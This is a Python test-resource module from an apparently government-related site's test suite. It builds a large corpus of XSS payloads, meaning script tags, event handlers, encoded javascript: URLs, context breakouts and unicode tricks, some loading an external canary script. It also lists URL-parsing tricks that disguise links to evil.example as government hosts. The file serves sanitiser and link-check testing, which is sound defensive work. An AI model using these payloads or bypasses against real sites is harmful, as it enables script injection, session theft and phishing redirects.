"""A corpus of script-injection payloads (SEC-7), shared by the server-side sanitiser tests
(tests/resources/test_sanitize.py) and the browser test of the published pages
(tests/browser/test_injection.py).

The payloads are templates in the styles of the OWASP XSS filter evasion cheat sheet, PortSwigger's
XSS cheat sheet and the classic template and attribute breakouts. Where a payload would run script,
it runs `⟨JS⟩`; encoded forms of it are made here, so every encoded variant runs the same code:

    ⟨JS⟩           the code itself, e.g. alert(1) (server tests) or __hit(17) (browser test)
    ⟨JSURL_DEC⟩    "javascript:" + code as decimal entities: &#106;&#97;…
    ⟨JSURL_DEC7⟩   the same, zero-padded to 7 digits and without semicolons: &#0000106&#0000097…
    ⟨JSURL_HEX⟩    the same as hexadecimal entities without semicolons: &#x6A&#x61…
    ⟨CHARCODES⟩    the code as String.fromCharCode arguments: 95,95,104,…
    ⟨B64_HTML⟩     base64 of <script>code</script>, for data:text/html;base64,…
    ⟨B64_SVG⟩      base64 of an SVG document with onload=code, for data:image/svg+xml;base64,…
    ⟨CANARY⟩       an external address a payload tries to load (a script, a style sheet, an image)
    ⟨CANARY_PR⟩    the same address without its scheme (protocol-relative: //host/path)
    ⟨MEDIA⟩        the address of an image of the library (/media/…), which the sanitiser keeps

`payloads(js, canary)` fills the templates; `XSS_PAYLOADS` is the corpus filled with alert(1).
"""

from __future__ import annotations

import base64

DEFAULT_JS = "alert(1)"
DEFAULT_CANARY = "https://xss.example.com/xss-canary.js"
DEFAULT_MEDIA = "/media/library/ok.jpg"

TEMPLATES = [
    # <script> in its many spellings
    "<script>⟨JS⟩</script>",
    "<SCRIPT SRC=⟨CANARY⟩></SCRIPT>",
    "<scr<script>ipt>⟨JS⟩</scr</script>ipt>",
    "<<SCRIPT>⟨JS⟩;//<</SCRIPT>",
    '<SCRIPT/XSS SRC="⟨CANARY⟩"></SCRIPT>',
    '<SCRIPT/SRC="⟨CANARY⟩"></SCRIPT>',
    "<script>/* */⟨JS⟩</script >",
    # images with script addresses and handlers
    '<IMG SRC="javascript:⟨JS⟩;">',
    "<IMG SRC=javascript:⟨JS⟩>",
    "<IMG SRC=JaVaScRiPt:⟨JS⟩>",
    "<IMG SRC=`javascript:⟨JS⟩`>",
    '<IMG """><SCRIPT>⟨JS⟩</SCRIPT>"\\>',
    '<IMG SRC=# onmouseover="⟨JS⟩">',
    '<IMG SRC= onmouseover="⟨JS⟩">',
    '<IMG onmouseover="⟨JS⟩">',
    '<IMG SRC=/ onerror="eval(String.fromCharCode(⟨CHARCODES⟩))"></img>',
    '<img src=x onerror="⟨JSURL_DEC7⟩">',
    "<IMG SRC=⟨JSURL_DEC⟩>",
    "<IMG SRC=⟨JSURL_DEC7⟩>",
    "<IMG SRC=⟨JSURL_HEX⟩>",
    '<IMG SRC="jav\tascript:⟨JS⟩;">',
    '<IMG SRC="jav&#x09;ascript:⟨JS⟩;">',
    '<IMG SRC="jav&#x0A;ascript:⟨JS⟩;">',
    '<IMG SRC="jav&#x0D;ascript:⟨JS⟩;">',
    '<IMG SRC=" &#14;  javascript:⟨JS⟩;">',
    # links with script addresses
    '<a href="javascript:⟨JS⟩">click</a>',
    '<a href="JAVASCRIPT:⟨JS⟩">click</a>',
    '<a href=" javascript:⟨JS⟩">click</a>',
    '<a href="java\u0000script:⟨JS⟩">click</a>',
    '<a href="&#106;avascript:⟨JS⟩">click</a>',
    '<a href="&#x6A;avascript&#x3A;⟨JS⟩">click</a>',
    '<a href="javascript&colon;⟨JS⟩">click</a>',
    '<a href="java&Tab;script:⟨JS⟩">click</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74%3A⟨JS⟩">click</a>',
    "<a href=\"vbscript:msgbox('XSS')\">click</a>",
    '<a href="data:text/html;base64,⟨B64_HTML⟩">click</a>',
    '<a href="data:text/html,<script>⟨JS⟩</script>">click</a>',
    '<a href="livescript:⟨JS⟩">click</a>',
    '<a href="jar:http://example.com/x.jar!/">x</a>',
    '<a onmouseover="⟨JS⟩">xxs link</a>',
    '<a href="/" onclick="⟨JS⟩">x</a>',
    # SVG and MathML
    "<svg onload=⟨JS⟩>",
    "<svg/onload=⟨JS⟩>",
    "<svg><script>⟨JS⟩</script></svg>",
    '<svg><a xlink:href="javascript:⟨JS⟩"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=⟨JS⟩ attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=⟨JS⟩></style></mglyph></table></mtext></math>",
    '<math href="javascript:⟨JS⟩">CLICK</math>',
    # frames, objects, embeds
    '<iframe src="javascript:⟨JS⟩;"></iframe>',
    '<iframe srcdoc="<script>⟨JS⟩</script>"></iframe>',
    '<IFRAME SRC=# onmouseover="⟨JS⟩"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:⟨JS⟩;"></FRAMESET>',
    '<object data="javascript:⟨JS⟩"></object>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="⟨CANARY⟩"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,⟨B64_SVG⟩" type="image/svg+xml"></EMBED>',
    '<embed src="javascript:⟨JS⟩">',
    # forms
    '<form action="javascript:⟨JS⟩"><input type=submit></form>',
    "<form><button formaction=javascript:⟨JS⟩>x</button></form>",
    "<input onfocus=⟨JS⟩ autofocus>",
    # document-level elements
    "<BODY ONLOAD=⟨JS⟩>",
    '<BODY BACKGROUND="javascript:⟨JS⟩">',
    '<BGSOUND SRC="javascript:⟨JS⟩;">',
    '<LINK REL="stylesheet" HREF="javascript:⟨JS⟩;">',
    # style sheets
    "<STYLE>@import'⟨CANARY⟩';</STYLE>",
    '<STYLE>li {list-style-image: url("javascript:⟨JS⟩");}</STYLE><UL><LI>XSS</br>',
    '<IMG STYLE="xss:expr/*XSS*/ession(⟨JS⟩)">',
    '<p style="background-image: url(javascript:⟨JS⟩)">x</p>',
    '<DIV STYLE="width: expression(⟨JS⟩);">x</DIV>',
    # meta refresh, tables, base
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:⟨JS⟩;">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,⟨B64_HTML⟩">',
    '<TABLE BACKGROUND="javascript:⟨JS⟩"><TD BACKGROUND="javascript:⟨JS⟩">x</TD></TABLE>',
    "<td onmouseover=⟨JS⟩>x</td>",
    '<BASE HREF="javascript:⟨JS⟩;//">',
    '<XSS STYLE="behavior: url(⟨CANARY⟩);">',
    # parser confusion
    "<!--[if gte IE 4]><SCRIPT>⟨JS⟩;</SCRIPT><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=⟨JS⟩>"></noscript>',
    '<xmp><p title="</xmp><svg/onload=⟨JS⟩>">',
    "<template><script>⟨JS⟩</script></template>",
    "<details open ontoggle=⟨JS⟩>",
    '<video><source onerror="⟨JS⟩"></video>',
    "<audio src=x onerror=⟨JS⟩>",
    "<marquee onstart=⟨JS⟩>x</marquee>",
    "<isindex type=image src=1 onerror=⟨JS⟩>",
    # the library's own images, abused
    '<img src="⟨MEDIA⟩" onerror="⟨JS⟩">',
    '<img src="/media/../admin/" onerror=⟨JS⟩>',
    '<img src="⟨CANARY_PR⟩">',
    '<img src="data:image/svg+xml;base64,⟨B64_SVG⟩">',
    '<a href="/" style="behavior:url(x)" onfocus="⟨JS⟩">ok</a>',
    # nested and broken markup
    "<p>hello<script>⟨JS⟩</script></p><p onclick=⟨JS⟩>world</p>",
    "<<img src=x onerror=⟨JS⟩//<",
    '<a href="javas<!-- -->cript:⟨JS⟩">x</a>',
    '"><script>⟨JS⟩</script>',
    "'><img src=x onerror=⟨JS⟩>",
    "<div><p><em><strong><script>⟨JS⟩</script></strong></em></p></div>",
    "<table><tr><td><img src=x onerror=⟨JS⟩></td></tr></table>",
    '<ul><li><a href="javascript:void(0)" onclick="⟨JS⟩">x</a></li></ul>',
    '<p><a href="&#x26;#x6A;avascript:⟨JS⟩">double encoded</a></p>',
    '<a href="\\x6Aavascript:⟨JS⟩">x</a>',
    '<a href="java\\u0073cript:⟨JS⟩">x</a>',
    '<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+⟨JS⟩//\'>">x</a>',
    '<a href="mailto:a@b.cn?body=<script>">mail</a>',
    "<h1 onclick=⟨JS⟩>t</h1><h5 style=x>u</h5>",
    "<o:p onclick=⟨JS⟩>word</o:p><v:shape onclick=⟨JS⟩>x</v:shape>",
    '<div style="mso-element:para-border-div;background:url(javascript:⟨JS⟩)">x</div>',
    # more handlers that fire by themselves or on the slightest touch
    "<img src=x onerror=⟨JS⟩>",
    "<IMG SRC=x ONERROR=⟨JS⟩>",
    "<img/src=x/onerror=⟨JS⟩>",
    "<img src=x:alert(alt) onerror=⟨JS⟩ alt=0>",
    "<body onpageshow=⟨JS⟩>",
    "<select autofocus onfocus=⟨JS⟩>",
    "<textarea autofocus onfocus=⟨JS⟩>",
    "<div tabindex=1 autofocus onfocusin=⟨JS⟩ onpointerover=⟨JS⟩ onmouseenter=⟨JS⟩>hover</div>",
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=⟨JS⟩>x</p>',
    "<video poster=javascript:⟨JS⟩ onloadstart=⟨JS⟩ src=x>",
    "<input type=image src=x onerror=⟨JS⟩>",
    '<form id=f></form><button form=f formaction="javascript:⟨JS⟩">x</button>',
    '<script src="data:,⟨JS⟩"></script>',
    '<iframe src="data:text/html;base64,⟨B64_HTML⟩"></iframe>',
    '<object data="data:text/html;base64,⟨B64_HTML⟩"></object>',
    # breaking out of the context the text lands in
    "</textarea><script>⟨JS⟩</script>",
    "</title><script>⟨JS⟩</script>",
    "</script><script>⟨JS⟩</script>",
    "--><script>⟨JS⟩</script><!--",
    "]]><script>⟨JS⟩</script><![CDATA[",
    "<![CDATA[<script>⟨JS⟩</script>]]>",
    '" onmouseover="⟨JS⟩" x="',
    "' onfocus='⟨JS⟩' autofocus='",
    '" autofocus onfocus="⟨JS⟩',
    '"><img src=x onerror=⟨JS⟩>',
    "javascript:⟨JS⟩",
    "[点击](javascript:⟨JS⟩)",
    # entity-encoded markup: plain-text fields decode entities, so it must be escaped on output
    "&lt;script&gt;⟨JS⟩&lt;/script&gt;",
    "&lt;img src=x onerror=⟨JS⟩&gt;",
    "&#60;svg onload=⟨JS⟩&#62;",
    "+ADw-script+AD4-⟨JS⟩+ADw-/script+AD4-",
    # template injection: shown as written, never evaluated
    "{{7*7}}",
    "{{constructor.constructor('⟨JS⟩')()}}",
    "{% print 7*7 %}${7*7}#{7*7}<%= 7*7 %>",
    # unicode tricks
    '\u202e<a href="javascript:⟨JS⟩">fdp.exe</a>',
    "\uff1cscript\uff1e⟨JS⟩\uff1c/script\uff1e",
    "\ufe64img src=x onerror=⟨JS⟩\ufe65",
    '<a href="java\u200bscript:⟨JS⟩">zero width</a>',
    "<img src=x onerror\u000b=⟨JS⟩ onerror=⟨JS⟩>",
    "<a href=javas&#99;ript:⟨JS⟩>entity in the scheme, unquoted</a>",
]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def fill(template: str, js: str = DEFAULT_JS, canary: str = DEFAULT_CANARY, media: str = DEFAULT_MEDIA) -> str:
    """One payload with its code and canary address put in (see the module's docstring)."""
    url = "javascript:" + js
    values = {
        "⟨JSURL_DEC7⟩": "".join(f"&#{ord(ch):07d}" for ch in url),
        "⟨JSURL_DEC⟩": "".join(f"&#{ord(ch)};" for ch in url),
        "⟨JSURL_HEX⟩": "".join(f"&#x{ord(ch):X}" for ch in url),
        "⟨CHARCODES⟩": ",".join(str(ord(ch)) for ch in js),
        "⟨B64_HTML⟩": _b64(f"<script>{js}</script>"),
        "⟨B64_SVG⟩": _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'),
        "⟨CANARY_PR⟩": canary.split(":", 1)[1],
        "⟨CANARY⟩": canary,
        "⟨MEDIA⟩": media,
        "⟨JS⟩": js,
    }
    for token, value in values.items():
        template = template.replace(token, value)
    return template


def payloads(js: str = DEFAULT_JS, canary: str = DEFAULT_CANARY, media: str = DEFAULT_MEDIA) -> list[str]:
    return [fill(template, js, canary, media) for template in TEMPLATES]


XSS_PAYLOADS = payloads()

# Links that a browser follows to a non-government host (evil.example) although a parser that
# does not read addresses the way browsers do (the WHATWG URL Standard; Python's urlsplit) sees a
# government host, or no host at all (LINK-3: opening a non-government link shows a notice first).
# Browsers read \ as / in http(s) addresses, drop tabs and line breaks anywhere, strip leading
# control characters and spaces, and read "https:host" and "//host" as addresses of that host.
LINK_BYPASSES = [
    "https://evil.example\\.gov.cn/n",
    "https://evil.example\\@www.shifan.gov.cn/",
    "https://evil.example\\\\www.shifan.gov.cn/",
    "https://www.shifan.gov.cn@evil.example/",
    "https://www.shifan.gov.cn:x@evil.example/",
    "HTTPS://EVIL.EXAMPLE\\.GOV.CN/n",
    "https:evil.example\\.gov.cn",
    "https:\\\\evil.example/.gov.cn",
    "//evil.example\\.gov.cn/n",
    "\\\\evil.example/n",
    "/\\evil.example/n",
    "\\/evil.example/n",
    " \t//evil.example/n",
    "\x01https://evil.example\\.gov.cn/n",
    "ht\ttps://evil.example\\.gov.cn/n",
    "https://evil.ex\nample\\.gov.cn/n",
    "https://evil.example:443\\.gov.cn/",
    "https://evil\uff0eexample\\.gov.cn/",
    "https://evil%2Eexample\\.gov.cn/",
]
